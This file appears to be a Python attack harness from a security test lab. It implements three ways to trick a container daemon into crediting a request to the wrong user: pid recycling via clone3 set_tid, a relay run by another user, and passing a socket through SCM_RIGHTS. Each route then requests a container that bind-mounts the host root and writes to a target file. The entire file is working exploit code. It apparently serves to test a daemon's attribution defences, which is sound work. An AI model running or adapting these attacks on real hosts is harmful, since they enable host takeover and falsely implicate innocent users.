"""Clients that deceive a daemon's attribution: python -m scenarios.props.attacks ATTACK SOCKET TARGET UID.

    recycle   connect and die; an innocent process of user UID gets the pid, then the connection is used
    relay     ask through a relay that user UID runs
    give      connect, and hand the connection to user UID, who asks

Each asks for the same container, which touches TARGET on the host. Exit status 1 if the daemon refuses, 125 if it does
not answer or the attack itself comes to nothing.
"""

from __future__ import annotations

import http.client
import json
import os
import select
import signal
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from lab.identity import set_loginuid
from lab.syscalls import clone3

REFUSED = 1


def ask(connection: socket.socket, target: str) -> int:
    """Create, start and await the container over this connection; 0, or 1 if the daemon refuses."""
    client = http.client.HTTPConnection("localhost")
    client.sock = connection
    body = {"Image": "host", "Cmd": ["touch", f"/host{target}"], "HostConfig": {"Binds": ["/:/host"]}}
    container = _request(client, "POST", "/containers/create", body)["Id"]
    try:
        refusal = _request(client, "POST", f"/containers/{container}/start").get("message")
        if refusal:
            print(f"labd: {refusal}", file=sys.stderr)
            return REFUSED
        return int(_request(client, "POST", f"/containers/{container}/wait")["StatusCode"])
    finally:
        _request(client, "DELETE", f"/containers/{container}?force=1")


def _request(client: http.client.HTTPConnection, method: str, path: str, body: object = None) -> dict[str, str]:
    client.request(method, path, json.dumps(body), {"Content-Type": "application/json"})
    answer: dict[str, str] = json.loads(client.getresponse().read() or "{}")
    return answer


def connect(path: str) -> socket.socket:
    """A connection to a UNIX socket: it keeps the credentials that the caller has now."""
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(path)
    return connection


def recycle(path: str, target: str, uid: int) -> int:
    """SO_PEERCRED gives a pid, a number; set_tid of clone3(2) asks for the same number again."""
    here, there = socket.socketpair()
    connector = os.fork()
    if connector == 0:
        with connect(path) as connection:
            socket.send_fds(there, [b"c"], [connection.fileno()])
        os._exit(0)
    there.close()
    fds = socket.recv_fds(here, 1, 1)[1]
    os.waitpid(connector, 0)
    with innocent(uid, connector):
        return ask(socket.socket(fileno=fds[0]), target)


@contextmanager
def innocent(uid: int, pid: int) -> Iterator[None]:
    """A process with that pid and that user's loginuid, which does nothing."""
    ready, said = os.pipe()
    child, pidfd = clone3(0, set_tid=pid)
    if child == 0:
        set_loginuid(uid)
        os.write(said, b"r")
        signal.pause()
    os.read(ready, 1)
    try:
        yield
    finally:
        signal.pidfd_send_signal(pidfd, signal.SIGKILL)
        os.waitpid(child, 0)


def relay(path: str, target: str, uid: int) -> int:
    """Carry bytes between two sockets, as socat, an ssh tunnel or a proxy does."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("")  # autobind to an abstract name; unix(7)
        listener.listen()
        child = os.fork()
        if child == 0:
            set_loginuid(uid)
            pump(listener.accept()[0], connect(path))
            os._exit(0)
        with connect(listener.getsockname()) as connection:
            code = ask(connection, target)
        os.waitpid(child, 0)
    return code


def pump(one: socket.socket, other: socket.socket) -> None:
    """Carry bytes both ways until one side ends."""
    peers = {one: other, other: one}
    while True:
        for source in select.select(peers, [], [])[0]:
            data = source.recv(1 << 16)
            if not data:
                return
            peers[source].sendall(data)


def give(path: str, target: str, uid: int) -> int:
    """Pass the connection by SCM_RIGHTS; unix(7). Its credentials stay those of connect(2), not the writer's."""
    here, there = socket.socketpair()
    child = os.fork()
    if child == 0:
        here.close()  # so that the child sees the end if the parent cannot connect
        set_loginuid(uid)
        os._exit(ask(socket.socket(fileno=socket.recv_fds(there, 1, 1)[1][0]), target))
    with connect(path) as connection:
        socket.send_fds(here, [b"g"], [connection.fileno()])
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


ATTACKS: dict[str, Callable[[str, str, int], int]] = {"recycle": recycle, "relay": relay, "give": give}

if __name__ == "__main__":
    attack, path, target, uid = sys.argv[1:]
    try:
        code = ATTACKS[attack](path, target, int(uid))
    except (OSError, http.client.HTTPException, LookupError, ValueError) as error:
        print(f"the attack came to nothing: {type(error).__name__}: {error}", file=sys.stderr)
        code = 125
    os._exit(code)  # a forked child, too, ends here
